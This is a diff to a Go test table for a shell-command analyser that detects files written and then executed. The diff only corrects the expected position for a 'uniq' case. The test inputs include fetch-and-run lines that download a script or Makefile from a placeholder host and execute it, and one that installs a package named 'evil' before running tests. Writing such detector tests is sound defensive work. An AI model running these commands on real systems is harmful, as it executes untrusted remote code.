@@ -95,7 +95,7 @@ func TestWriteThenRun(t *testing.T) {
 		{"echo id > x.sh && chmod +x x.sh && ./x.sh", "1:36 1:11"},
 		{"curl -sO https://x/Makefile && make", "1:32 1:1"},
 		{"wget https://x/run.sh; bash run.sh", "1:24 1:1"},
-		{"uniq in.txt x_test.go; go test", "1:24 1:1"},
+		{"uniq in.txt x_test.go; go test", "1:24 1:13"}, // uniq IN OUT writes OUT: a written file reference at OUT
 		{"npm install evil && npm test", "1:21 1:1"},
 		// Loops: a write later in the body comes before the run of the
 		// next round; also nested loops and the condition.
